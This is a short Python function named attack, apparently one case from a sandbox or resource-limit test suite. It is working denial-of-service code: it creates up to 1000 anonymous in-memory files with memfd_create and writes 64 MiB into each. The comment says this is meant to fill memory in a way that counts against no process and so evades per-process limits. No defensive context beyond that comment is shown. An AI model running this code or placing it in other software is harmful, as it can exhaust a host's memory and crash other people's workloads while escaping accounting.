# Fills memory with anonymous files, which count for no process.
def attack():
    import ctypes
    import posix

    libc = ctypes.CDLL(None)
    block = bytes(1 << 20)
    for number in range(1000):
        handle = libc.memfd_create(b"x", 0)
        if handle < 0:
            break
        try:
            for _ in range(64):
                posix.write(handle, block)
        except OSError:
            pass
    return False
